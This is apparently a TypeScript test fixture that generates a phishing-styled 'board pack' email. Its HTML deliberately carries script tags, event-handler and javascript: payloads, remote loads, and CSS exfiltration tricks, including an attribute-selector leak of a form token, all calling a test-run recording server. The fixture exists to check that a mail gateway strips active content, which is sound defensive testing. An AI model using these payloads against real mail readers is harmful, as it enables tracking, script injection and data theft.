/**
 * An email whose HTML tries every way we know to run code, load something or leave the frame:
 * scripts (inline, remote, in SVG), event handlers, a javascript: link, remote images and
 * srcset, stylesheets, @import and url() (the CSS exfiltration channels, including an
 * attribute-selector leak of a form value), a frame, a form with an autofocus handler, a meta
 * refresh and a <base>. Every URL points at `origin`, a recording server the test runs itself,
 * so that anything that slips through is seen; never at a real host.
 */

/** What the reader should see of it: the harmless text, which must survive. */
export const BENIGN_TEXT = ['Dear colleague, the board pack for Thursday is ready for your review.', 'Kind regards, Finance'] as const;
export const LINK_TEXT = 'Open the board pack';
export const HOSTILE_SUBJECT = 'Board pack for Thursday';

/** Script bodies: each would leave a trace in the top page, in the recording server or as a dialog. */
function attack(origin: string, name: string): string {
  return `try { window.top.document.title = 'PWNED ${name}'; } catch (e) {} try { window.top.__belongMarker = 'set by ${name}'; } catch (e) {} fetch('${origin}/${name}'); alert('${name}');`;
}

export function hostileHtml(origin: string): string {
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0;url=${origin}/meta-refresh">
<base href="${origin}/base/">
<link rel="stylesheet" href="${origin}/link-stylesheet.css">
<style>
@import url(${origin}/style-import.css);
body { background-image: url(${origin}/style-body-background.png); }
input[value^="s"] { background: url(${origin}/exfil-value-starts-with-s.png); }
</style>
<script>${attack(origin, 'head-script')} setTimeout(function () { fetch('${origin}/delayed-script'); }, 300); new Image().src = '${origin}/script-image';</script>
<script src="${origin}/remote-script.js"></script>
</head>
<body onload="${attack(origin, 'body-onload')}">
<p>${BENIGN_TEXT[0]}</p>
<p style="color: #333; background: url(${origin}/inline-style-background.png)">${BENIGN_TEXT[1]}</p>
<p><a href="javascript:${attack(origin, 'javascript-link')}">${LINK_TEXT}</a></p>
<img src="${origin}/remote-image.png" alt="remote image">
<img src="${origin}/missing.png" onerror="${attack(origin, 'img-onerror')}" alt="broken image">
<img srcset="${origin}/srcset-1x.png 1x, ${origin}/srcset-2x.png 2x" alt="srcset image">
<iframe src="${origin}/iframe.html"></iframe>
<form action="${origin}/form-action" method="post">
<input name="token" value="secret-token" autofocus onfocus="${attack(origin, 'autofocus-onfocus')}">
<button type="submit">Send</button>
</form>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${attack(origin, 'svg-onload')}">
<script>${attack(origin, 'svg-script')}</script>
<image href="${origin}/svg-image.png" width="10" height="10"/>
</svg>
</body></html>
`;
}

/** A complete message as the gateway would receive it: text and HTML alternatives, the HTML base64 encoded. */
export function hostileMime(options: { origin: string; from: string; to: string; date: Date }): Buffer {
  const boundary = 'hostile-boundary-7f3a';
  const html = Buffer.from(hostileHtml(options.origin), 'utf8').toString('base64').replace(/.{76}/g, '$&\r\n');
  const lines = [
    `From: Finance <${options.from}>`,
    `To: <${options.to}>`,
    `Subject: ${HOSTILE_SUBJECT}`,
    `Date: ${options.date.toUTCString()}`,
    `Message-ID: <hostile-${options.date.getTime()}@board-pack.example>`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    BENIGN_TEXT.join('\r\n'),
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    html,
    `--${boundary}--`,
    '',
  ];
  return Buffer.from(lines.join('\r\n'), 'utf8');
}
